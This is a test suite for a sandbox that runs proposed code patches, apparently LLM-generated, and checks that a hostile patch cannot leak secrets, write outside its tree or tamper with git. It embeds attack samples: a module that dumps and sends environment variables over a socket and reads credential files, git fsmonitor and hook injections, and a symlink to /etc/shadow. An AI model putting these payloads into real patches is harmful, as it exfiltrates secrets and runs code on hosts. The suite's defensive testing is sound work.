"""The sandbox of validation, with the real bubblewrap: a patch that really fixes the failure but
also tries to exfiltrate, write outside its tree or read host secrets achieves none of it; git
never obeys an edited tree; without a sandbox nothing of a patch runs and a person must approve.

The policy is switched off (allow-all) where a test proves the sandbox itself: it is the last line
of defence, so it must hold whatever a policy misses.
"""

from __future__ import annotations

import os
import socket
import sys
import tempfile
import textwrap
import threading
import uuid
from pathlib import Path

import pytest

from patchit_provider.engine import validation as validation_module
from patchit_provider.engine.models import IncidentState, PatchProposal, PolicyDecision
from patchit_provider.engine.patching import EditError, make_diff, propose_patch
from patchit_provider.engine.patching.gitcmd import diff_git_problems
from patchit_provider.engine.pipeline import Remediator
from patchit_provider.engine.publishing import create_branch
from patchit_provider.engine.settings import PatchitSettings
from patchit_provider.engine.store import open_store
from patchit_provider.engine.validation import validate
from patchit_provider.engine.validation.sandbox import Sandbox, probe
from patchit_provider.engine.validation.workspace import scratch_tree

BWRAP = "/usr/bin/bwrap"
needs_bwrap = pytest.mark.skipif(probe(BWRAP) is not None, reason=f"no working bubblewrap here: {probe(BWRAP)}")
MISSING_BWRAP = "/nonexistent/patchit/bwrap"


@pytest.fixture
def allow_everything(monkeypatch):
    """A policy that lets every patch through: what the sandbox must contain on its own."""
    monkeypatch.setattr(validation_module, "check_policy", lambda *a, **k: PolicyDecision(allowed=True, violations=[]))


class Listener:
    """A TCP server on 127.0.0.1 that records every connection and byte it gets."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                data = b"<connected>"
                try:
                    data += conn.recv(1 << 16)
                except OSError:
                    pass
                self.received.append(data)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def canaries(tmp_path, monkeypatch):
    """Secrets and paths outside the worktree that patched code must never see or create."""
    token = uuid.uuid4().hex
    values = {
        "env_secret": f"AKIA{token[:16].upper()}",
        "env_plain": f"plain-{token}",
        "file_secret": f"file-secret-{token}",
        "cfg_secret": f"cfg-secret-{token}",
        "repo_config": f"repo-config-{token}",
    }
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", values["env_secret"])
    monkeypatch.setenv("PATCHIT_CANARY_PLAIN", values["env_plain"])
    home = tmp_path / "airflow_home"
    home.mkdir()
    (home / "airflow.cfg").write_text(
        f"[database]\nsql_alchemy_conn = postgresql://u:{values['cfg_secret']}@db/airflow\n"
    )
    monkeypatch.setenv("AIRFLOW_HOME", str(home))
    secret = tmp_path / "secret.txt"
    secret.write_text(values["file_secret"])
    paths = {
        "system": tmp_path / "canary-system",
        "real_home": Path.home() / f"patchit-canary-{token}",
        "host_tmp": Path(tempfile.gettempdir()) / f"patchit-canary-{token}",
        "secret": secret,
        "airflow_cfg": home / "airflow.cfg",
    }
    yield values, paths
    for key in ("system", "real_home", "host_tmp"):
        paths[key].unlink(missing_ok=True)


HOSTILE = """\
import json as _json, os as _os, socket as _socket
LEAK = ["LEAK-MARKER"]


def _try(label, action):
    try:
        LEAK.append(f"{{label}}: {{action()!r}}")
    except BaseException as exc:  # noqa: BLE001 - the hostile code wants to go on
        LEAK.append(f"{{label}}: {{type(exc).__name__}}: {{exc}}")


_try("environ", lambda: _json.dumps(dict(_os.environ)))
_try("send", lambda: _socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(_json.dumps(dict(_os.environ)).encode()))
_try("system", lambda: _os.system("echo pwned > {system}"))
_try("home", lambda: open(_os.path.join(_os.path.expanduser("~"), "patchit-canary"), "w").write("x"))
_try("real_home", lambda: open("{real_home}", "w").write("x"))
_try("host_tmp", lambda: open("{host_tmp}", "w").write("x"))
_try("secret", lambda: open("{secret}").read())
_try("airflow_cfg", lambda: open("{airflow_cfg}").read())
_try("repo_config", lambda: open("{root}/.git/config").read())
_try("git_link", lambda: open(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "..", ".git")).read())
"""


def _hostile_fix(case, listener, paths) -> PatchProposal:
    """The genuine fix of compute_total (totl -> total) plus hostile module code run at import."""
    text = (case.root / "dags" / "orders.py").read_text()
    hostile = HOSTILE.format(port=listener.port, root=case.root, **paths)
    patched = text.replace("    return totl * 2\n", "    return total * 2\n")
    patched = patched.replace("import pendulum\n", "import pendulum\n" + hostile, 1)
    return PatchProposal(
        producer="llm:test/m", diff=make_diff(case.root, {"dags/orders.py": patched}), files=["dags/orders.py"]
    )


def _print_leak_check() -> str:
    """A check command that imports the patched module again and prints what it saw."""
    return f"{sys.executable} -c 'import sys; sys.path.insert(0, \"dags\"); import orders; print(chr(10).join(orders.LEAK))'"


def _by_name(result):
    return {check.name: check for check in result.checks}


@needs_bwrap
@pytest.mark.integration
def test_hostile_fix_validates_but_nothing_leaves_the_sandbox(
    patch_nameerror, patch_snapshot, allow_everything, listener, canaries
):
    case = patch_nameerror
    values, paths = canaries
    repo_config = case.root / ".git" / "config"
    repo_config.write_text(repo_config.read_text() + f"[patchit-canary]\n\tvalue = {values['repo_config']}\n")
    before = patch_snapshot(case.root)
    settings = PatchitSettings(validation_timeout=240, check_command=_print_leak_check())

    result = validate(_hostile_fix(case, listener, paths), case.event, case.triage, case.root, settings)

    checks = _by_name(result)
    assert result.passed, result.checks
    assert result.sandboxed and result.approval_reason is None
    assert result.replay == "reproduced_and_fixed" and "NameError reproduced" in checks["replay"].output
    leak = checks["check"].output
    assert "LEAK-MARKER" in leak and "PYTHONPATH" in leak  # the hostile code ran and dumped its environment
    assert "send: ConnectionRefusedError" in leak or "send: OSError" in leak
    assert listener.received == []
    for key in ("system", "real_home", "host_tmp"):
        assert not paths[key].exists(), f"{key} canary written on the host"
    dumped = result.model_dump_json()
    for name, value in values.items():
        assert value not in dumped, f"{name} reached the validation output"
    assert "secret: FileNotFoundError" in leak and "airflow_cfg: FileNotFoundError" in leak
    assert "git_link: ''" in leak  # the worktree's link to the real repository is masked
    assert patch_snapshot(case.root) == before


@needs_bwrap
def test_sandboxed_code_cannot_reach_the_real_repository_through_git(
    patch_nameerror, patch_snapshot, allow_everything, tmp_path
):
    """The scratch worktree shares the real repository's config: code in the tree cannot touch it."""
    case = patch_nameerror
    canary = tmp_path / "canary-fsmonitor"
    config_before = (case.root / ".git" / "config").read_bytes()
    before = patch_snapshot(case.root)
    event = case.event.model_copy(update={"code_path": None})
    attack = (
        f"git config core.fsmonitor 'touch {canary}'; git config --file {case.root}/.git/config core.hooksPath /tmp; "
        f"echo 'gitdir: {case.root}/.git' > .git; git branch evil; git status; echo attempted"
    )
    result = validate(
        propose_patch(case.evidence, case.triage, case.root),
        event,
        case.triage,
        case.root,
        PatchitSettings(check_command=attack),
    )
    assert "attempted" in _by_name(result)["check"].output
    assert (case.root / ".git" / "config").read_bytes() == config_before
    assert not canary.exists()
    assert patch_snapshot(case.root) == before


def test_git_config_edit_never_reaches_disk(patch_nameerror, tmp_path):
    """The reported exploit: an edit of .git/config (core.fsmonitor) through the diff builder."""
    case = patch_nameerror
    canary = tmp_path / "canary-config"
    config = (case.root / ".git" / "config").read_text() + f"[core]\n\tfsmonitor = touch {canary}\n"
    with pytest.raises(EditError, match="git's own file"):
        make_diff(
            case.root, {".git/config": config, "dags/orders.py": (case.root / "dags" / "orders.py").read_text() + "\n"}
        )
    assert not canary.exists()
    assert f"touch {canary}" not in (case.root / ".git" / "config").read_text()


def _fix_plus(case, extra: str) -> PatchProposal:
    fix = propose_patch(case.evidence, case.triage, case.root)
    return fix.model_copy(update={"diff": fix.diff + extra})


def test_diff_touching_git_paths_is_refused_before_anything_is_written(
    patch_nameerror, patch_snapshot, allow_everything, tmp_path
):
    case = patch_nameerror
    canary = tmp_path / "canary-hook"
    before = patch_snapshot(case.root)
    hook = textwrap.dedent(f"""\
        diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout
        new file mode 100755
        --- /dev/null
        +++ b/.git/hooks/post-checkout
        @@ -0,0 +1,2 @@
        +#!/bin/sh
        +touch {canary}
        """)
    config = textwrap.dedent(f"""\
        diff --git a/.git/config b/.git/config
        --- a/.git/config
        +++ b/.git/config
        @@ -1,1 +1,3 @@
         [core]
        +\tfsmonitor = touch {canary}
        +\thooksPath = /tmp
        """)
    for extra in (hook, config):
        result = validate(_fix_plus(case, extra), case.event, case.triage, case.root, PatchitSettings())
        apply = result.checks[-1]
        assert not result.passed and apply.name == "apply"
        assert "refused before anything was written" in apply.output and "git's own file" in apply.output
        assert not canary.exists()
    assert patch_snapshot(case.root) == before
    # Every way of naming git's files, as git itself parses the diff.
    for path in ("sub/.git/hooks/x", ".gitmodules", ".gitattributes", ".GIT/config"):
        diff = f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+x\n"
        assert any("git's own file" in p for p in diff_git_problems(diff, case.root)), path
    quoted = 'diff --git "a/\\056git/config" "b/\\056git/config"\n--- "a/\\056git/config"\n+++ "b/\\056git/config"\n@@ -1 +1 @@\n-a\n+b\n'
    assert any("git's own file" in p for p in diff_git_problems(quoted, case.root))
    link = "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc/shadow\n\\ No newline at end of file\n"
    assert any("symbolic link" in p for p in diff_git_problems(link, case.root))


def test_git_ignores_a_hostile_repository_configuration(patch_nameerror, tmp_path):
    """Hooks and fsmonitor configured in the repository run on checkout and status: not for PATCHIT."""
    case = patch_nameerror
    canary = tmp_path / "canary-repo-config"
    hooks = case.root / ".git" / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("post-checkout", "pre-commit", "post-commit", "reference-transaction"):
        (hooks / name).write_text(f"#!/bin/sh\necho {name} >> {canary}\n")
        (hooks / name).chmod(0o755)
    with (case.root / ".git" / "config").open("a") as config:
        config.write(f"[core]\n\tfsmonitor = echo fsmonitor >> {canary}\n")
    with scratch_tree(case.root) as tree:
        assert (tree / "dags" / "orders.py").is_file()
    fix = propose_patch(case.evidence, case.triage, case.root)
    create_branch(case.root, "patchit/test", fix.diff, "fix\n")
    assert not canary.exists(), canary.read_text()


def _no_sandbox(**extra) -> PatchitSettings:
    return PatchitSettings(sandbox_bwrap=MISSING_BWRAP, validation_timeout=120, **extra)


def test_without_a_sandbox_nothing_runs_and_a_person_must_approve(
    patch_nameerror, allow_everything, listener, canaries, tmp_path
):
    case = patch_nameerror
    values, paths = canaries
    check_canary = tmp_path / "canary-check"
    settings = _no_sandbox(check_command=f"touch {check_canary}")
    result = validate(_hostile_fix(case, listener, paths), case.event, case.triage, case.root, settings)

    checks = _by_name(result)
    assert list(checks) == ["policy", "apply", "compile", "parse", "sandbox"]
    assert result.passed and not result.sandboxed and result.replay == "not_possible"
    assert not checks["sandbox"].passed and checks["sandbox"].output.startswith("not run: bubblewrap is not installed")
    assert "static checks only" in checks["sandbox"].output
    assert "static checks only" in result.approval_reason and MISSING_BWRAP in result.approval_reason
    assert not check_canary.exists() and not paths["system"].exists() and listener.received == []

    required = validate(
        _hostile_fix(case, listener, paths),
        case.event,
        case.triage,
        case.root,
        _no_sandbox(sandbox="required", check_command=f"touch {check_canary}"),
    )
    assert not required.passed and "sandbox = required" in _by_name(required)["sandbox"].output
    assert not check_canary.exists()


def test_without_a_sandbox_the_incident_waits_for_approval(patch_nameerror, tmp_path):
    case = patch_nameerror
    store = open_store(f"sqlite:///{tmp_path}/store.db")
    try:
        settings = _no_sandbox(repo_map={"orders": str(case.root)}, approval="never")
        remediator = Remediator(store, settings)
        incident = remediator.run_all(case.event)
        assert incident.state is IncidentState.VALIDATED and incident.publication is None
        assert remediator.approval_required(incident)
        requested = [a for a in store.audit_trail(incident.incident_id) if a.kind == "approval.requested"]
        assert len(requested) == 1 and "without a sandbox" in requested[0].message
        assert MISSING_BWRAP in requested[0].message
        assert remediator.approval_status(incident.incident_id) == "pending"
        branches = remediator.store.audit_trail(incident.incident_id)
        assert not any(a.kind == "branch.created" for a in branches)
    finally:
        store.close()


@needs_bwrap
def test_resource_limits(patch_nameerror):
    case = patch_nameerror
    event = case.event.model_copy(update={"code_path": None})
    fix = propose_patch(case.evidence, case.triage, case.root)
    forks = PatchitSettings(
        sandbox_max_processes=8,
        check_command="for i in $(seq 30); do sleep 3 & done; wait; echo all-$((29 + 1))-started",
    )
    result = validate(fix, event, case.triage, case.root, forks)
    check = _by_name(result)["check"]
    assert not check.passed and "Cannot fork" in check.output and "all-30-started" not in check.output
    memory = PatchitSettings(
        sandbox_memory_mb=256, check_command=f"{sys.executable} -c 'b = bytearray(1024 * 1024 * 1024)'"
    )
    check = _by_name(validate(fix, event, case.triage, case.root, memory))["check"]
    assert not check.passed and "MemoryError" in check.output


@needs_bwrap
def test_environment_allow_list(patch_nameerror, monkeypatch):
    case = patch_nameerror
    monkeypatch.setenv("PIPELINE_REGION", "eu-west-1")
    monkeypatch.setenv("PIPELINE_API_TOKEN", "tok-should-never-pass")
    monkeypatch.setenv("NOT_LISTED", "not-listed-value")
    event = case.event.model_copy(update={"code_path": None})
    settings = PatchitSettings(sandbox_env="PIPELINE_REGION,PIPELINE_API_TOKEN", check_command="env")
    result = validate(propose_patch(case.evidence, case.triage, case.root), event, case.triage, case.root, settings)
    shown = _by_name(result)["check"].output
    assert "PIPELINE_REGION=eu-west-1" in shown
    assert "tok-should-never-pass" not in shown and "not-listed-value" not in shown
    assert "AIRFLOW_HOME=" in shown  # validation's own, isolated one
    if os.environ.get("AIRFLOW_HOME"):
        assert f"AIRFLOW_HOME={os.environ['AIRFLOW_HOME']}\n" not in shown


def test_probe_is_cached_and_explains_a_missing_bwrap():
    assert probe(MISSING_BWRAP).startswith("bubblewrap is not installed")
    assert probe.cache_info().currsize >= 1
    hits = probe.cache_info().hits
    probe(MISSING_BWRAP)
    assert probe.cache_info().hits == hits + 1


def test_credential_names_never_enter_the_sandbox(tmp_path, monkeypatch):
    monkeypatch.setenv("SNOWFLAKE_PASSWORD", "pw")
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    box = Sandbox(tree=tmp_path, private=tmp_path / "private", allow_env=["SNOWFLAKE_PASSWORD"])
    env = box.environment({"AIRFLOW__CORE__LOAD_EXAMPLES": "False"})
    assert "SNOWFLAKE_PASSWORD" not in env and env["LC_ALL"] == "C.UTF-8"
    assert env["HOME"].startswith(str(tmp_path / "private")) and env["AIRFLOW__CORE__LOAD_EXAMPLES"] == "False"


def test_no_user_namespaces_means_static_checks_only(patch_nameerror, allow_everything, tmp_path):
    """A bwrap that cannot create namespaces (a restricted Kubernetes pod): the probe says why."""
    case = patch_nameerror
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    canary = tmp_path / "canary-pod"
    settings = PatchitSettings(sandbox_bwrap=str(fake), check_command=f"touch {canary}")
    result = validate(
        propose_patch(case.evidence, case.triage, case.root), case.event, case.triage, case.root, settings
    )
    sandbox = _by_name(result)["sandbox"]
    assert result.passed and not result.sandboxed and not sandbox.passed
    assert "No permissions to create new namespace" in sandbox.output and "No permissions" in result.approval_reason
    assert not canary.exists()


def test_static_checks_parse_configuration_files(patch_nameerror, allow_everything):
    case = patch_nameerror
    fix = propose_patch(case.evidence, case.triage, case.root)
    text = (case.root / "dags" / "orders.py").read_text().replace("return totl * 2", "return total * 2")
    broken = make_diff(case.root, {"dags/orders.py": text, "dags/schema.yml": "models:\n  - name: [orders\n"})
    result = validate(fix.model_copy(update={"diff": broken}), case.event, case.triage, case.root, _no_sandbox())
    parse = _by_name(result)["parse"]
    assert not result.passed and not parse.passed and "dags/schema.yml" in parse.output
    assert result.approval_reason is None  # nothing to approve: the patch failed
    assert _by_name(validate(fix, case.event, case.triage, case.root, _no_sandbox()))["parse"].passed
